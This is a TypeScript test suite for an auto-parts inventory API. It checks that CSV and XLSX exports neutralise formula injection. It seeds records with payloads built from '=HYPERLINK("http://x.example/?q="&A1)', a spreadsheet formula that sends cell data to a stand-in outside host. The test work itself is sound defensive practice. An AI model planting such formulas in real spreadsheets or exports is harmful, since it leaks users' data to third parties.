import { CSV_FORMULA_PREFIXES, csvSafeText, STATUS } from '@yonke/domain';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { insertLocation, insertPart } from '../../../test/factories.ts';
import { createTestContext } from '../../../test/helpers.ts';
import { importRows, imports, stockChecks } from '../../db/schema/index.ts';
import { createSheetWriter } from '../../lib/sheets.ts';

// Every CSV the API writes goes through one writer (lib/sheets.ts), whose text cells pass through
// csvSafeText: a part named `=HYPERLINK(…)` must never reach Excel as a formula (OWASP "CSV
// injection"). Each writer is tried with each prefix; the .xlsx keeps the text exactly, as text.

const PAYLOADS = CSV_FORMULA_PREFIXES.map((prefix) => `${prefix}HYPERLINK("http://x.example/?q="&A1)`);

let ctx: Awaited<ReturnType<typeof createTestContext>>;
let companyId: number;
let session: Awaited<ReturnType<typeof ctx.signedIn>>;
let importId: number;
const locationIds: number[] = [];

async function download(path: string, method = 'GET', body?: unknown): Promise<Buffer> {
  const cookie = [...session.jar].map(([key, value]) => `${key}=${value}`).join('; ');
  const response = await ctx.app.request(path, {
    method,
    headers: {
      Cookie: cookie,
      'X-XSRF-TOKEN': decodeURIComponent(session.jar.get('XSRF-TOKEN') ?? ''),
      'X-Requested-With': 'XMLHttpRequest',
      ...(body === undefined ? {} : { 'Content-Type': 'application/json' }),
    },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

function csvCells(bytes: Buffer): string[] {
  const rows = parse(bytes.toString('utf8'), { bom: true, relax_column_count: true }) as string[][];
  return rows.flat();
}

/** The text cells that still begin a formula: what Excel would execute. */
function formulas(cells: string[]): string[] {
  return cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

beforeAll(async () => {
  ctx = await createTestContext();
  companyId = (await ctx.createCompany('Yonke Fórmulas')).id;
  session = await ctx.signedIn([2], companyId);
  for (const [index, payload] of PAYLOADS.entries()) {
    const location = await insertLocation(ctx.db, companyId, `${payload} ${index}`);
    locationIds.push(location.id);
    await insertPart(ctx.db, { companyId, name: payload, description: payload, locationId: location.id });
    await insertPart(ctx.db, {
      companyId,
      name: payload,
      statusId: STATUS.SOLD,
      soldAt: new Date(),
      finalPrice: 500,
    });
  }
  await ctx.db.insert(stockChecks).values(
    locationIds.map((locationId) => ({
      companyId,
      locationId,
      userId: session.user.id,
      foundCount: 1,
      addedCount: 0,
      missingCount: 0,
      fingerprint: `x${locationId}`,
    })),
  );
  const [record] = await ctx.db
    .insert(imports)
    .values({
      companyId,
      fileName: 'taller.csv',
      headers: PAYLOADS,
      totalRows: PAYLOADS.length,
      status: 'completed',
    })
    .returning();
  importId = record?.id as number;
  await ctx.db.insert(importRows).values(
    PAYLOADS.map((payload, index) => ({
      importId,
      rowNumber: index + 2,
      cells: PAYLOADS.map(() => payload),
      outcome: 'error' as const,
      message: payload,
    })),
  );
});

describe('csvSafeText', () => {
  it.each(CSV_FORMULA_PREFIXES.map((prefix) => [JSON.stringify(prefix), prefix]))(
    'puts an apostrophe before a cell that begins with %s',
    (_label, prefix) => {
      expect(csvSafeText(`${prefix}1+1`)).toBe(`'${prefix}1+1`);
    },
  );

  it('leaves ordinary text alone, a minus inside a word included', () => {
    for (const text of ['Faro izquierdo', 'P1-C2-3B', '2015-2018', 'correo@yonke.mx', '', "'ya"]) {
      expect(csvSafeText(text)).toBe(text);
    }
  });
});

describe('the sheet writer', () => {
  it.each(CSV_FORMULA_PREFIXES.map((prefix) => [JSON.stringify(prefix), prefix]))(
    'neutralises a CSV cell beginning with %s, and writes the .xlsx cell as plain text',
    async (_label, prefix) => {
      const text = `${prefix}SUM(1+1)`;
      const write = async (format: 'csv' | 'xlsx') => {
        const writer = createSheetWriter(format, 'Prueba', [{ key: 'name', header: 'Nombre' }]);
        const chunks: Buffer[] = [];
        writer.stream.on('data', (chunk: Buffer) => chunks.push(chunk));
        await writer.addRows([{ name: text, amount: -5 }]);
        await writer.finish();
        return Buffer.concat(chunks);
      };
      expect(csvCells(await write('csv'))).toEqual(['Nombre', `'${text}`]);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await write('xlsx')) as unknown as ArrayBuffer);
      const cell = workbook.worksheets[0]?.getRow(2).getCell(1);
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      // XML turns a carriage return into a line feed; the text is otherwise exactly as given.
      expect(cell?.value).toBe(text.replace(/\r/g, '\n'));
    },
  );
});

describe('every CSV the API writes', () => {
  const writers: [string, string, string, unknown?][] = [
    ['Autopartes', '/api/export/autoparts?format=csv', 'POST', {}],
    ['Ventas', '/api/export/sales?format=csv', 'POST', {}],
    ['Ubicaciones', '/api/export/locations?format=csv', 'GET'],
    ['Inventarios', '/api/export/stock-checks?format=csv', 'GET'],
  ];

  it.each(writers)('%s: no cell begins a formula, for each prefix', async (_name, path, method, body) => {
    const cells = csvCells(await download(path, method, body));
    expect(formulas(cells)).toEqual([]);
    for (const payload of PAYLOADS) {
      expect(cells.some((cell) => cell.startsWith(`'${payload}`))).toBe(true);
    }
  });

  it('the import’s error rows: no cell begins a formula, for each prefix, in headers, cells and messages', async () => {
    const cells = csvCells(await download(`/api/imports/${importId}/errors?format=csv`));
    expect(formulas(cells)).toEqual([]);
    for (const payload of PAYLOADS) {
      expect(cells.filter((cell) => cell === `'${payload}`).length).toBeGreaterThanOrEqual(3);
    }
  });
});
